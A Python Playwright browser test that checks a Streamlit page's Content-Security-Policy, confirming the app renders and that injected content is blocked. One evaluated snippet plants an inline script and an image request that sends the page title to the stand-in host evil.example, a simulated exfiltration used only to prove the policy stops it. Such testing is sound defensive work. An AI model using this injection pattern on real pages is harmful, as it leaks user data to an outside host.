"""The page under its own Content-Security-Policy."""

from __future__ import annotations

from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import pytest

from tests.browser.driving import QUESTION, ask, wait_until_drawn

if TYPE_CHECKING:
    from playwright.sync_api import Page, Request

pytestmark = [pytest.mark.browser, pytest.mark.model]

# In Streamlit's own page; it only says that the page is not to be drawn ahead of time.
STREAMLITS_INLINE_SCRIPT = "Executing inline script violates"


def test_the_page_works_and_what_it_would_forbid_is_forbidden(desk: Page, address: str) -> None:
    said: list[str] = []
    left: set[str] = set()
    blocked: set[str] = set()

    def note_failure(request: Request) -> None:
        # What the policy stops is told of as a request too, but never leaves the browser.
        kept = blocked if request.failure == "csp" else left
        kept.add(urlsplit(request.url).netloc)

    desk.on("console", lambda message: said.append(message.text))
    desk.on("requestfinished", lambda request: left.add(urlsplit(request.url).netloc))
    desk.on("requestfailed", note_failure)
    ask(desk, address, QUESTION)
    wait_until_drawn(desk, "Sunderland City Council")
    refused = [line for line in said if "Content Security Policy" in line]
    assert [line for line in refused if STREAMLITS_INLINE_SCRIPT not in line] == []
    desk.evaluate(
        """() => {
            const script = document.createElement("script");
            script.textContent = "window.planted = true";
            const picture = document.createElement("img");
            picture.src = "http://evil.example/" + document.title;
            document.body.append(script, picture);
        }"""
    )
    desk.wait_for_timeout(500)
    assert desk.evaluate("window.planted") is None
    assert blocked == {"evil.example"}
    assert left == {urlsplit(address).netloc}
